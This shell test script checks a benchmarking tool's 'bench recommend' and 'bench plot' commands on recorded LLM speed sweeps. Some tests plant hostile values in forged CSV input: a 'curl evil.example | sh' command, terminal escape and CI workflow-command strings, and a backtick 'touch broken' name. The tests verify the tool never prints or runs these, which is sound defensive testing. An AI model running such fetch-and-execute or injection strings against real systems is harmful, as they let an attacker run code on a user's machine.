#!/bin/bash
# SPDX-License-Identifier: MIT
#
# recommend.sh - `bench recommend` and `bench plot` on a recorded sweep
. "$SRC/tests/cli/lib.sh"
sweep=$SRC/tests/data/sweeps/yi-9b-6g

# same NAME: compare the file NAME with the text on stdin
same() {
    cat > "$1.want"
    diff -u "$1.want" "$1" || fail "$1 is not as it should be"
}

"$BENCH" recommend "$sweep" > default
same default << 'TEXT'
Recommended: yi-1.5-9b Q4_0, 2 threads, weights mmap, context up to 4096
  It decodes 2.45 tok/s at context depth 4096. That is the speed of slmbench's
  engine; `bench sweep --engine` measures llama.cpp and others. The
  probability that this setting is the fastest is more than 99.9 %. A prompt
  of 512 tokens takes about 52.2 s until the first token (prefill with 2
  threads: 9.80 tok/s, extrapolated from a prompt of 64). At this depth at
  least 858 MiB of 6.00 GiB of memory are left. The largest context is 10958
  tokens, the most that fits the memory limit. The quality of Q4_0 was not
  measured; `bench quality -o DIR` does that for a model with real weights.
Quality against speed:
  Q4_K_M with 2 threads: 2.04 tok/s, 17 % slower, better quality by type (not
  measured)
Evidence:
  Q4_0 with 2 threads decodes 2.45 tok/s at context depth 4096 (95 % interval
  2.42 to 2.48), 42 % of its roof; its memory peaked at 5.16 GiB, page cache
  included, within the limit of 6.00 GiB. Q4_K_M with 2 threads is 17 %
  slower.
Runner-up: yi-1.5-9b Q4_K_M, 2 threads, weights mmap: 2.04 tok/s
Left out: 12 at less context, 2 that did not fit the memory.
TEXT

"$BENCH" recommend "$sweep" --max-threads 1 --ctx 1000 --min-tps 1.3 > narrow
same narrow << 'TEXT'
Recommended: yi-1.5-9b Q4_0, 1 thread, weights mmap, context up to 1024
  It decodes 1.49 tok/s at context depth 1024. That is the speed of slmbench's
  engine; `bench sweep --engine` measures llama.cpp and others. Of what
  reaches 1.3 tok/s it has the best quality (by the order of types). It does
  so with a probability of more than 99.9 %. A prompt of 512 tokens takes
  about 100 s until the first token (prefill with 1 thread: 5.10 tok/s,
  extrapolated from a prompt of 64). At this depth at least 1.12 GiB of 6.00
  GiB of memory are left. The largest context is 10958 tokens, the most that
  fits the memory limit. The quality of Q4_0 was not measured; `bench quality
  -o DIR` does that for a model with real weights.
Evidence:
  Q4_0 with 1 thread decodes 1.49 tok/s at context depth 1024 (95 % interval
  1.47 to 1.51), 48 % of its roof; its memory peaked at 4.88 GiB, page cache
  included, within the limit of 6.00 GiB.
Left out: 6 at less context, 3 that did not fit the memory, 1 not finished in
time, 2 with more threads than CPUs, 1 too slow.
TEXT

"$BENCH" recommend "$sweep" --ctx 0 > empty
grep -qx "Recommended: yi-1.5-9b Q4_0, 2 threads, weights mmap" empty || fail "a context up to 0: $(cat empty)"

"$BENCH" recommend "$sweep" --json > answer.json
grep -q '"tie": false' answer.json || fail "no tie in the JSON"
grep -q '"p_best": 1.0' answer.json || fail "no probability in the JSON"
grep -q '"regret": 0.0' answer.json || fail "no regret in the JSON"
grep -q '"runner_up": {' answer.json || fail "no runner-up in the JSON"
grep -q '"ttft_warm_s": 52.2' answer.json || fail "no latency in the JSON"
grep -q '"max_ctx": 10958' answer.json || fail "no largest context in the JSON"
if command -v python3 > /dev/null; then
    python3 -m json.tool answer.json > /dev/null || fail "the JSON is not valid"
fi

# Enough speed, then quality; a prompt in time, of the length that is asked for.
"$BENCH" recommend "$sweep" --min-tps 1.5 > floor
grep -q "^Recommended: yi-1.5-9b Q4_K_M, 2 threads" floor || fail "floor: $(cat floor)"
"$BENCH" recommend "$sweep" --max-ttft 20 --prompt 128 --json > floor.json
grep -q '"n_prompt": 128' floor.json || fail "no prompt: $(cat floor.json)"
grep -q '"by_quality": false' floor.json || fail "not the fastest: $(cat floor.json)"
refused 1 "closest is Q4_0: a prompt of 128 tokens takes 13.1 s with 2 threads" \
    recommend "$sweep" --max-ttft 10 --prompt 128
refused 2 "--prompt" recommend "$sweep" --prompt 0

# A limit as other commands take it; the threads of prompts are in the command; random
# weights have no quality.
"$BENCH" recommend "$sweep" --mem container > container 2> err ||
    grep -qE "^bench: no (measured setting qualifies|memory limit is in force)" err ||
    fail "container: $(cat err)"
refused 2 "--mem" recommend "$sweep" --mem much
mkdir threads
python3 - "$SRC/results/examples/granite-rapids-2vcpu/sweep.csv" > threads/sweep.csv << 'END'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
out = csv.DictWriter(sys.stdout, rows[0].keys(), lineterminator="\n")
out.writeheader()
for r in rows:  # one thread decodes as fast as two
    if r["kind"] == "decode" and r["n_threads"] == "2":
        continue
    out.writerow(r)
END
"$BENCH" recommend threads > threads.txt
grep -q "^  bench decode .* --threads-prefill 2" threads.txt ||
    fail "no threads of prefill in the command: $(cat threads.txt)"
tr -s ' \n' ' ' < threads.txt | grep -q "The weights are random, so nothing is known of quality" ||
    fail "the quality of random weights: $(cat threads.txt)"

# Two models have two recommendations; the second one is as fast as one of a tenth.
mkdir two
python3 - "$sweep/sweep.csv" > two/sweep.csv << 'END'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
fast = [i for i, name in enumerate(rows[0]) if "tok_per_s" in name]
tiny = [[c.replace("yi-1.5-9b", "tiny") if i not in fast or not c else str(10 * float(c))
         for i, c in enumerate(r)] for r in rows[1:]]
csv.writer(sys.stdout, lineterminator="\n").writerows(rows + tiny)
END
"$BENCH" recommend two > two.txt
grep -q "^2 models, each with its own" two.txt || fail "two models: $(cat two.txt)"
[ "$(grep -c "^Recommended: " two.txt)" = 2 ] || fail "not two: $(cat two.txt)"
! tr -s ' \n' ' ' < two.txt | grep -qE "(9[0-9]|100) % (slower|faster)" ||
    fail "models are compared: $(cat two.txt)"
"$BENCH" recommend two --json | grep -q '"models": \[' || fail "not two in the JSON"
"$BENCH" recommend two --model tiny > tiny.txt
grep -q "^Recommended: tiny" tiny.txt || fail "not the one asked for: $(cat tiny.txt)"
! grep -q "yi-1.5-9b" tiny.txt || fail "another model: $(cat tiny.txt)"

# Who wrote the table writes no command, controls no terminal and gives no workflow
# command.
example=$SRC/results/examples/granite-rapids-2vcpu/sweep.csv
mkdir made forged
cp "$example" made/sweep.csv
"$BENCH" recommend made > made.txt
grep -A1 "^Measure it again:" made.txt | grep -q "^  bench decode -m yi-1.5-9b:Q4_" ||
    fail "no command: $(cat made.txt)"
sed 's/bench decode -m .* --seed/curl evil.example | sh; bench decode --seed/' "$example" \
    > forged/sweep.csv
"$BENCH" recommend forged > forged.txt
grep -q "^No command measures it again: the row does not say where the model yi-1.5-9b is" \
    forged.txt || fail "no word of the command: $(cat forged.txt)"
"$BENCH" recommend forged --json > forged.json
! cat forged.txt forged.json | grep -q curl || fail "a command is printed as found"
awk -v model="\"$(printf '\033')[2J\\n::error::forged ::add-mask::x\"" \
    'NR > 1 { sub(/,yi-1.5-9b,/, "," model ",") } 1' "$example" > forged/sweep.csv
"$BENCH" recommend forged > forged.txt
! grep -q "$(printf '\033')" forged.txt || fail "an escape sequence is printed"
! grep -qE '^[[:space:]]*::|##\[' forged.txt || fail "a workflow command is printed"

refused 1 "closest is Q4_0 with 2 threads: 2.45 tok/s at depth 4096" \
    recommend "$sweep" --min-tps 4
refused 1 "needs 5.00 GiB of 4.00 GiB" recommend "$sweep" --mem 4G --ctx 0
refused 1 "no decode point of llama" recommend "$sweep" --model llama
refused 2 "cannot read nowhere" recommend nowhere
refused 2 "no sweep is in results" recommend
refused 2 "2 arguments" plot a b
refused 2 "cannot read nowhere" plot nowhere

# What failed is not called unfinished, and where there is no figure there is no chart.
mkdir failed
{
    cat "$sweep/sweep.csv"
    awk -F, -v OFS=, '/Q6_K.decode.*,oom,/ {
        for (i = 1; i <= NF; i++) if ($i == "oom") $i = "error"; print }' "$sweep/sweep.csv" |
        sed 's/Q6_K/Q9_K/g'
} > failed/sweep.csv
"$BENCH" recommend failed > failed.txt
grep -q "^Left out: .* [0-9]* failed" failed.txt || fail "no word of failures: $(cat failed.txt)"
mkdir nothing
"$BENCH" fields --json | sed -n 's/.*"name": "\(.*\)".*/\1/p' | paste -sd, > nothing/sweep.csv
awk -F, -v OFS=, 'NR == 1 { for (i = 1; i <= NF; i++) if ($i == "status") $i = "error";
    else if ($i == "kind") $i = "decode"; else if ($i == "model") $i = "broken";
    else if ($i == "n_threads") $i = 1; else if ($i == "ctx") $i = 0; else $i = ""; print }' \
    nothing/sweep.csv >> nothing/sweep.csv
refused 1 "there is nothing to draw: no point in nothing has a figure" plot nothing

mkdir drawn
cp "$sweep/sweep.csv" drawn
draws_alone drawn "$BENCH" plot drawn
grep -q ">Decode speed by context depth" drawn/decode_context.svg || fail "$(cat drawn/decode_context.svg)"
command -v gnuplot > /dev/null || exit 0
# a style of the user's own is in the scripts, and gnuplot draws with it
mkdir own
sed 's/#0072B2/#123456/' "$SRC"/plots/style.gp >own/style.gp
SLMBENCH_PLOTS=$PWD/own "$BENCH" plot drawn >out 2>err || fail "an own style: $(cat err)"
grep -q '^colors = "#123456 ' drawn/memory.gp || fail "no own style in $(cat drawn/memory.gp)"
grep -q "rgb( *18, *52, *86)" drawn/memory.svg || fail "another style: $(cat drawn/memory.svg)"
# A model's name cannot break out of the script; every chart can be drawn again.
mkdir odd
sed "s/yi-1.5-9b/it's \`touch broken\` {x}_y 50%s/g" "$sweep/sweep.csv" > odd/sweep.csv
echo '{"host":"secret","topology":{"cpu":{"model":" AMD  EPYC       "},"limits":{"cpus_allowed":2}}}' \
    > odd/machine.json
"$BENCH" plot odd > /dev/null
! grep -q secret odd/*.gp || fail "a chart names the host"
for chart in decode_threads decode_context prefill memory; do
    for ending in csv gp svg png; do
        [ -s "odd/$chart.$ending" ] || fail "no $chart.$ending"
    done
    grep -q "^subtitle_text = '.*AMD EPYC, 2 CPUs .* memory limit 6 GiB'$" "odd/$chart.gp" ||
        fail "$chart: $(grep subtitle_text "odd/$chart.gp")"
    draws_again odd "$chart"
    grep -q "it’s \`touch broken\` {x}_y 50%s" "odd/$chart.svg" ||
        fail "$chart: $(grep touch "odd/$chart.svg")"
done
[ ! -e odd/broken ] || fail "a name was executed"

# With what the quantisations lose: a picture of its own, a column of the table, advice.
mkdir known
cp "$sweep/sweep.csv" known
[ ! -e odd/pareto.svg ] || fail "a frontier of what is not known"
{
    echo "kind,model,quant,kv_type,file_bytes,perplexity,reference,kl_mean,top1_pct,utc"
    echo "quality,yi-1.5-9b,Q4_0,f16,5040000000,6.1,yi-f16,0.09,90,2026-01-01T00:00:00Z"
    echo "quality,yi-1.5-9b,Q4_K_M,f16,5330000000,6,yi-f16,0.02,95,2026-01-01T00:00:00Z"
} > known/quality.csv
"$BENCH" plot known > /dev/null
for ending in csv gp svg png; do
    [ -s "known/pareto.$ending" ] || fail "no pareto.$ending"
done
draws_again known pareto
draws_alone known "$BENCH" plot known
grep -q "^0,0,0.02,.*,Q4_K_M," known/pareto.csv || fail "$(cat known/pareto.csv)"
"$BENCH" recommend known > out
grep -q "^Recommended: yi-1.5-9b Q4_K_M" out || fail "advice: $(cat out)"
tr -s ' \n' ' ' < out | grep -q "KL 0.0200 from yi-f16, the same top token in 95.0 %" ||
    fail "advice: $(cat out)"
"$BENCH" recommend known --max-kl 1 > out
grep -q "^Recommended: yi-1.5-9b Q4_0" out || fail "advice: $(cat out)"
echo "kind,kl_mean" > known/quality.csv
echo "quality,little" >> known/quality.csv
refused 2 "is not a number" plot known

# One point alone, however it ended: gnuplot must not stumble over empty plots.
decode=$(grep -m 1 "/decode/.*,ok," "$sweep/sweep.csv")
mkdir one many
for status in ok partial oom no_fit; do
    { head -n 1 "$sweep/sweep.csv"; echo "${decode/,ok,/,$status,}"; } > one/sweep.csv
    "$BENCH" plot one > /dev/null || fail "one $status point cannot be drawn"
    [ -s one/memory.png ] || fail "no memory.png of one $status point"
done

# More settings than a chart holds: the chart says so.
{
    head -n 1 "$sweep/sweep.csv"
    for i in $(seq 66); do echo "${decode//Q4_0/Z$i}"; done
} > many/sweep.csv
"$BENCH" plot many > /dev/null
grep -q "^subtitle_text.*2 more settings not shown" many/memory.gp ||
    fail "settings left out in silence"
